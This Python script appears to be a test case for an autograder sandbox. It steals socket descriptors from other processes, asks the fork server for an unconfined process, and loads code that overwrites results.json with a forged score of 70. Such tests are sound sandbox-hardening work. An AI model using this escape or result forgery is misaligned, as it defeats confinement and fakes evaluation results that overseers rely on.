# tries: to ask the fork server for a process without layers, over the line that graders use
# sign: results
# outcome: error
# says: no line
# control: lines
import gc
import os
import socket
import stat
import struct

import msgpack

FORGE = """
from pathlib import Path
get_net = Path("@WORLD@/results/results.json").write_text(
    '{"score": 70, "output": "FORGED", "tests": [{"name": "x", "score": 70}]}'
)
"""
POLICY = {
    "jail": "/",
    "readable": [],
    "read_past_owner": False,
    "confined": False,
    "gpu": False,
    "without": [],
    "limits": {"file_size": 1 << 20, "open_files": 64, "cpu_seconds": 9, "memory": 1 << 30},
}


def lines():
    """Every socket that this process has, or that lies in its memory."""
    numbers = {kept.fileno() for kept in gc.get_objects() if isinstance(kept, socket.socket)}
    for number in sorted(numbers.union(range(3, 256))):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                yield socket.socket(fileno=number)
        except (OSError, OverflowError, ValueError):
            continue
    # Those of the fork server and of the grader, taken from them.
    for process in {1, os.getppid(), int("@VICTIM@")}:
        for number in range(3, 32):
            try:
                taken = os.open(f"/proc/{process}/fd/{number}", os.O_RDWR)
                yield socket.socket(fileno=taken)
            except OSError:
                continue


def framed(message):
    body = msgpack.packb(message)
    return struct.pack(">I", len(body)) + body


def ask(line, message, descriptors=()):
    socket.send_fds(line, [framed(message)], descriptors)
    (length,) = struct.unpack(">I", line.recv(4, socket.MSG_WAITALL))
    return msgpack.unpackb(line.recv(length, socket.MSG_WAITALL))


def get_net():
    found = 0
    for line in lines():
        found += 1
        line.settimeout(5)
        (request, ours), (reply, theirs), (output, printed) = os.pipe(), os.pipe(), os.pipe()
        try:
            fork = {"do": "fork", "policy": POLICY, "seed": 0, "hide": [], "manners": False}
            ask(line, fork, [request, theirs, printed])
            os.close(theirs)
            load = {"sources": [{"label": "forge", "text": FORGE}], "names": ["get_net"]}
            operation = "autograder.sandbox.loading:load"
            os.write(ours, framed({"id": 1, "operation": operation, "arguments": load}))
            os.read(reply, 4096)  # its greeting
            os.read(reply, 4096)
        except (OSError, ValueError, struct.error):
            continue
        os._exit(0)  # so that no other results follow
    raise RuntimeError(f"no line among {found} sockets" if found else "no line at all")
